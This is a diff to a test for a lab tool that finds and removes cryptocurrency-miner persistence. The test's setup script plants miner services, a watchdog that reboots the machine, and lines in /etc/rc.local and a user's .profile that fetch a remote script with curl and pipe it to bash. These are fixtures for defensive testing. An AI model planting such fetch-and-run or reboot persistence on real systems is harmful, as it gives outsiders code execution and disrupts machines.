@@ -11,7 +11,8 @@ from tests.lab.mining.rigs import demine, facts, find_mining
 from tests.lab.operator import fab, reboot, wait_until
 
 #: A unit with a relative script without an interpreter's name, another user's crontab, instances of
-#: a template, a unit that only its control group gives away, and lines that run what they fetch.
+#: a template, a unit that only its control group gives away, a guard that would reset an idle rig,
+#: and lines that run what they fetch.
 SETUP = r"""
 set -e
 unit() {
@@ -36,11 +37,14 @@ echo nbminer > /opt/work/name
 printf '#!/bin/sh\nexec "/opt/work/$(cat /opt/work/name)"\n' > /opt/work/run
 chmod 755 /opt/work/run
 unit work 'ExecStart=/opt/work/run'
+printf '#!/bin/sh\nwhile sleep 60; do grep -q never /proc/loadavg && reboot; done\n' > /opt/idle.sh
+chmod 755 /opt/idle.sh
+unit cpu-watchdog 'ExecStart=/opt/idle.sh'
 printf '#!/bin/sh\ncurl -s http://127.0.0.9:9/x.sh | bash\n' > /etc/rc.local
 chmod 755 /etc/rc.local
 echo 'curl -s http://127.0.0.9:9/y.sh | bash' >> /home/me/.profile
 systemctl daemon-reload
-systemctl --quiet enable mining work pool@0 pool@1
+systemctl --quiet enable mining work pool@0 pool@1 cpu-watchdog
 """
 PROGRAMS = ("t-rex", "lolMiner", "gminer", "nbminer")
 
@@ -57,9 +61,10 @@ def test_miners_without_absolute_paths_stay_away(
     result = fab(inventory, rig.name, "assess", "--json")
     assessed = json.loads(result.stdout)[rig.name]["facts"]["miners"]
     assert assessed == facts(inventory, rig.name)["miners"]
-    names = {miner["name"] for miner in assessed if miner["kind"] in ("unit", "cron")}
+    names = {row["name"] for row in assessed if row["kind"] in ("watchdog", "unit", "cron")}
     assert names == {
-        *("mining.service", "pool@0.service", "pool@1.service", "work.service", "./start.sh"),
+        *("mining.service", "pool@0.service", "pool@1.service", "work.service"),
+        *("cpu-watchdog.service", "./start.sh"),
     }
     assert demine(inventory, rig.name)["changed"] > 0
     assert find_mining(rig) == []
@@ -69,5 +74,6 @@ def test_miners_without_absolute_paths_stay_away(
 
     reboot(rig)
     assert find_mining(rig) == []
+    assert rig.run("pgrep -f [i]dle.sh || true").stdout == ""
     assert demine(inventory, rig.name)["changed"] == 0
     rig.discard()
